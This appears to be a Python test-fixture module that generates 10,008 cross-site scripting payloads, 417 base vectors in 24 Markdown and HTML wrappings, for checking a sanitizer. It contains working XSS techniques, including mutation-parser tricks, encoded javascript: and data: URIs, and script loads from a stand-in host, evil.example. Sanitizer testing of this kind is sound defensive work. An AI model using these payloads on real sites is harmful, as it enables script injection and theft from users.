"""10,008 texts that would run a script on a careless page: 417 of them, each in 24 dresses.

Each calls `__xss()`, so that a page with a trip wire of that name knows. They are built here, from the events, carriers
and schemes that browsers have, and from the tricks that are told of parsers.
"""

from collections.abc import Callable, Iterator, Mapping
from itertools import cycle, product
from urllib.parse import quote

CALL = "__xss()"
BASE_COUNT, COUNT = 417, 10_008

_EVENTS = """
    onabort onafterprint onafterscriptexecute onanimationcancel onanimationend onanimationiteration onanimationstart
    onauxclick onbeforecopy onbeforecut onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforescriptexecute
    onbeforetoggle onbeforeunload onbegin onblur oncancel oncanplay oncanplaythrough onchange onclick onclose
    oncontentvisibilityautostatechange oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter
    ondragleave ondragover ondragstart ondrop ondurationchange onend onended onerror onfocus onfocusin onfocusout
    onformdata onfullscreenchange ongotpointercapture onhashchange oninput oninvalid onkeydown onkeypress onkeyup onload
    onloadeddata onloadedmetadata onloadstart onlostpointercapture onmessage onmousedown onmouseenter onmouseleave
    onmousemove onmouseout onmouseover onmouseup onmousewheel onpagehide onpageshow onpaste onpause onplay onplaying
    onpointercancel onpointerdown onpointerenter onpointerleave onpointermove onpointerout onpointerover
    onpointerrawupdate onpointerup onpopstate onprogress onratechange onrepeat onreset onresize onscroll
    onscrollend onscrollsnapchange
    onsearch onsecuritypolicyviolation onseeked onseeking onselect onselectionchange onselectstart onshow onslotchange
    onstalled onstorage onsubmit onsuspend ontimeupdate ontoggle ontouchcancel ontouchend ontouchmove ontouchstart
    ontransitioncancel ontransitionend ontransitionrun ontransitionstart onunhandledrejection onunload onvolumechange
    onwaiting onwebkitanimationend onwebkittransitionend onwheel
""".split()  # noqa: SIM905
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "details open",
    "video src=x",
    "audio src=x autoplay",
    "input autofocus",
    "a href=x style=display:block tabindex=1 id=x",
    "marquee",
    "select autofocus",
    "math",
    "xss contenteditable",
    "p style=animation:x",
)
_CARRIERS = (
    '<a href="{}">x</a>',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<button form=x formaction="{}">x</button><form id=x></form>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<svg><a xlink:href="{}"><text y=20>x</text></a></svg>',
    '<math><maction actiontype="statusline" xlink:href="{}">x</maction></math>',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<base href="{}//"><a href=x>x</a>',
    '<link rel="stylesheet" href="{}">',
    '<img src="{}">',
    '<input type="image" src="{}" formaction="{}">',
    '<video poster="{}"></video>',
    '<body background="{}">',
    '<svg><animate xlink:href=#y attributeName=href values="{}" /><a id=y><text y=20>x</text></a></svg>',
    '<svg><set xlink:href=#z attributeName=href to="{}" /><a id=z><text y=20>x</text></a></svg>',
    '<svg><use href="{}#x" /></svg>',
    '<area href="{}" shape=default>',
    "[x]({})",
    "![x]({})",
    "[x]: {}\n\n[x]",
)
_ADDRESSES = (
    "javascript:__xss()",
    "JaVaScRiPt:__xss()",
    "java\tscript:__xss()",
    "&#106;&#97;vascript&colon;__xss()",
    "vbscript:__xss()",
    "data:text/html,<script>__xss()</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+",
    "//evil.example/x.js",
)
_TRICKS = (
    "<script>__xss()</script>",
    "<script src=data:,__xss()></script>",
    "<script>/*<![CDATA[*/__xss()/*]]>*/</script>",
    "<script/x>__xss()</script>",
    "<script\n>__xss()</script\n>",
    "<script type=module>__xss()</script>",
    "<script async defer>__xss()//</script>",
    "<scr<script>ipt>__xss()</scr</script>ipt>",
    "<<script>__xss()//<</script>",
    "<script>__xss()",
    "</script><script>__xss()</script>",
    "<svg><script>__xss()</script></svg>",
    "<svg><script href=data:,__xss() /></svg>",
    "<svg><script>&#95;_xss()</script></svg>",
    "<svg><style><img src=x onerror=__xss()></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=__xss()>">',
    "<svg><foreignObject><img src=x onerror=__xss()></foreignObject></svg>",
    "<svg><desc><img src=x onerror=__xss()></desc></svg>",
    "<svg><title><style><img src=x onerror=__xss()></style></title></svg>",
    "<svg><image href=x onerror=__xss() /></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__xss()&gt;">',
    "<math><mtext><mglyph><style><img src=x onerror=__xss()></style></mglyph></mtext></math>",
    '<math><annotation-xml encoding="text/html"><img src=x onerror=__xss()></annotation-xml></math>',
    "<math><mi><table><style><!--</style><img src=x onerror=__xss()>--></style></table></mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss()>",
    '<noscript><p title="</noscript><img src=x onerror=__xss()>"></noscript>',
    '<noembed><img title="</noembed><img src=x onerror=__xss()>"></noembed>',
    '<noframes><img title="</noframes><img src=x onerror=__xss()>"></noframes>',
    '<xmp><img title="</xmp><img src=x onerror=__xss()>"></xmp>',
    "<plaintext><img src=x onerror=__xss()>",
    "<listing>&lt;img src=x onerror=__xss()&gt;</listing>",
    "<template><img src=x onerror=__xss()></template>",
    "<template shadowrootmode=open><img src=x onerror=__xss()></template>",
    '<textarea><img title="</textarea><img src=x onerror=__xss()>"></textarea>',
    '<title><img title="</title><img src=x onerror=__xss()>"></title>',
    '<style><img title="</style><img src=x onerror=__xss()>"></style>',
    '<iframe srcdoc="&lt;script&gt;parent.__xss()&lt;/script&gt;"></iframe>',
    '<iframe><img title="</iframe><img src=x onerror=__xss()>"></iframe>',
    '<select><style><img title="</style><img src=x onerror=__xss()>"></style></select>',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=__xss()>">',
    "<table><td background=javascript:__xss()>x</table>",
    "<table><tr><td><style></table><img src=x onerror=__xss()></style>",
    "<!--><img src=x onerror=__xss()>-->",
    "<!--[if gte IE 4]><script>__xss()</script><![endif]-->",
    "<!-- --!><img src=x onerror=__xss()>-->",
    "<!x><img src=x onerror=__xss()>",
    '<?xml version="1.0"?><img src=x onerror=__xss()>',
    "<![CDATA[<img src=x onerror=__xss()>]]>",
    '<!DOCTYPE x [<!ENTITY a "<img src=x onerror=__xss()>">]>&a;',
    "<?php ?><script>__xss()</script>",
    "<img src=x onerror=__xss()//",
    "<img src=x:x onerror=__xss() ",
    "<img/src=x/onerror=__xss()>",
    "<img\nsrc=x\nonerror=__xss()>",
    "<img src=`x`onerror=__xss()>",
    "<img src='x'onerror=__xss()>",
    '<img src="x""onerror=__xss()>',
    '<img """><script>__xss()</script>">',
    "<img src=x onerror\x0b=__xss()>",
    "<img src=x onerror\x0c=\x0c__xss()>",
    '<img src=x onerror="&#95;&#95;xss&lpar;&rpar;">',
    "<img src=x onerror=eval(atob('X194c3MoKQ=='))>",
    "<img src=x onerror=\\u005f\\u005fxss()>",
    '<img srcset="x 1x, y 2x" onerror=__xss()>',
    "<picture><source srcset=x><img onerror=__xss()></picture>",
    "<img src=media/x.png onload=__xss() onerror=__xss()>",
    '<a href="https://a.example" onclick=__xss()>x</a>',
    "<a href=javas\ncript:__xss()>x</a>",
    '<a href="\x01javascript:__xss()">x</a>',
    '<a href="javascript&NewLine;:__xss()">x</a>',
    "<a href='javascript:/*\"/*`/*&apos;/*--></title></style></textarea></script><svg/onload=__xss()>//'>x</a>",
    '<a href="media/../../x" ping="//evil.example">x</a>',
    '<a href="term:x" onclick=__xss()>x</a>',
    '<div style="width:expression(__xss())">x</div>',
    '<div style="background:url(javascript:__xss())">x</div>',
    "<style>@import 'javascript:__xss()';</style>",
    "<style>*{background:url('//evil.example')}</style>",
    "<link rel=import href=data:text/html,<script>__xss()</script>>",
    "<object data=data:text/html,<script>parent.__xss()</script>></object>",
    "<embed src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9X194c3MoKT48L3N2Zz4=>",
    "<isindex action=javascript:__xss() type=image>",
    "<keygen autofocus onfocus=__xss()>",
    "<applet code=javascript:__xss()></applet>",
    "<frameset onload=__xss()><frame src=javascript:__xss()></frameset>",
    "<portal src=javascript:__xss()></portal>",
    "<dialog open onclose=__xss()><form method=dialog><button autofocus>x</button></form></dialog>",
    "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=__xss()>y</p>",
    "<p id=location name=location>x</p><form name=document><img name=cookie></form>",
    "<a id=academyFrame><a id=academyFrame name=page href=javascript:__xss()>x</a></a>",
    '<span data-sentence="0" onclick=__xss()>x</span>',
    '<span data-term="x"><img src=x onerror=__xss()></span>',
    '<details ontoggle=__xss() open data-section="x">x</details>',
    "<video><source onerror=__xss()></video>",
    "<audio src onloadstart=__xss()>",
    '"><img src=x onerror=__xss()>',
    "'><img src=x onerror=__xss()>",
    "`><img src=x onerror=__xss()>",
    '" onfocus=__xss() autofocus tabindex=1 x="',
    "' onfocus=__xss() autofocus tabindex=1 x='",
    "javascript:__xss()//",
    "'-__xss()-'",
    '";__xss();//',
    '\\";__xss();//',
    "${__xss()}",
    "{{constructor.constructor('__xss()')()}}",
    "</title><svg onload=__xss()>",
    "</textarea><svg onload=__xss()>",
    "</style><svg onload=__xss()>",
    "</script><svg onload=__xss()>",
    "--><svg onload=__xss()>",
    "]]><svg onload=__xss()>",
    "*/__xss()/*",
    '<https://evil.example/" onclick=__xss()>',
    "<javascript:__xss()>",
    "[x](<javascript:__xss()>)",
    '[x](https://a.example "\\" onclick=__xss() \\"")',
    '[x](https://a.example){: onclick="__xss()" }',
    '![x" onerror="__xss()](media/x.png)',
    "# x {: onclick=__xss() }",
    "```html\n<img src=x onerror=__xss()>\n```\n<img src=x onerror=__xss()>",
    '```" onclick=__xss() "\nx\n```',
    "`<img src=x onerror=__xss()>`<img src=x onerror=__xss()>",
    '!!! example "<img src=x onerror=__xss()>"\n    x',
    '!!! x" onclick=__xss() "\n    x',
    "| <img src=x onerror=__xss()> |\n| --- |\n| x |",
    'x[^"><img src=x onerror=__xss()>]',
    "\x02wzxhzdk:0\x03<img src=x onerror=__xss()>",
    "\u2028<img src=x onerror=__xss()>\u2029",
    "\u202e<img src=x onerror=__xss()>",
    "\uff1cimg src=x onerror=__xss()\uff1e",
    "\u02bcimg src=x onerror=__xss()\u02be",
    "%3Cimg src=x onerror=__xss()%3E",
    "&lt;img src=x onerror=__xss()&gt;",
    "&amp;lt;img src=x onerror=__xss()&amp;gt;",
    "&#x3C;img src=x onerror=__xss()&#x3E;",
    "\\x3cimg src=x onerror=__xss()\\x3e",
    "\\u003cimg src=x onerror=__xss()\\u003e",
    "+ADw-script+AD4-__xss()+ADw-/script+AD4-",
)


def bases() -> tuple[str, ...]:
    """Return the 417 texts: an element for each event, an element for each carrier and address, and the tricks."""
    events = [f"<{tag} {event}={CALL}>x" for event, tag in zip(_EVENTS, cycle(_TAGS), strict=False)]
    carried = [carrier.replace("{}", address) for carrier, address in product(_CARRIERS, _ADDRESSES)]
    found = dict.fromkeys((*_TRICKS, *carried, *events))
    return tuple(found)[:BASE_COUNT]


DRESSES: Mapping[str, Callable[[str], str]] = {
    "as it is": lambda text: text,
    "in capitals": lambda text: text.swapcase().replace(CALL.upper(), CALL),
    "in an emphasis": lambda text: f"**{text}**",
    "in a heading": lambda text: f"### {text}",
    "in a list": lambda text: f"- one\n- {text}",
    "in a table": lambda text: f"| a | b |\n| --- | --- |\n| {_line(text)} | c |",
    "in a quotation": lambda text: f"> {text}",
    "in a box": lambda text: f"!!! example\n    {_line(text)}",
    "as a title of a box": lambda text: f'!!! example "{_line(text)}"\n    x',
    "as the text of a link": lambda text: f"[{text}](https://a.example)",
    "as an address": lambda text: f"[x]({_line(text)})",
    "as a title of a link": lambda text: f"[x](https://a.example '{_line(text)}')",
    "as an alternative text": lambda text: f"![{text}](media/x.png)",
    "in an attribute list": lambda text: f"x\n{{: title='{_line(text)}' }}",
    "behind an attribute": lambda text: f'<p title="x">{text}</p>',
    "inside an attribute": lambda text: f'<a href="https://a.example" title="{text}">x</a>',
    "out of an attribute": lambda text: f'<img src="media/x.png" alt=""{text}">',
    "in a comment": lambda text: f"<!-- {text} --> {text}",
    "in an open paragraph": lambda text: f"<p><b><p>{text}</b>",
    "in a table of tags": lambda text: f"<table><tr>{text}<td>{text}</table>",
    "with zeros": lambda text: text.replace("<", "<\x00", 1) + text.replace(" on", "\x00 on"),
    "named twice": lambda text: text.replace("<", "&lt;").replace(">", "&gt;") + text,
    "as an address in per cent": lambda text: f"[x](https://a.example/?q={quote(text)}) {text}",
    "as code and not": lambda text: f"`{_line(text)}` ``{_line(text)}",
}


def vectors() -> Iterator[tuple[str, str]]:
    """Yield all 10,008: what each is, and its text."""
    seen: set[str] = set()
    for number, base in enumerate(bases()):
        for dress, put_on in DRESSES.items():
            dressed = put_on(base)
            text = f"{dressed} {number}" if dressed in seen else dressed
            seen.add(text)
            yield f"{number} {dress}", text


def _line(text: str) -> str:
    return " ".join(text.split("\n"))
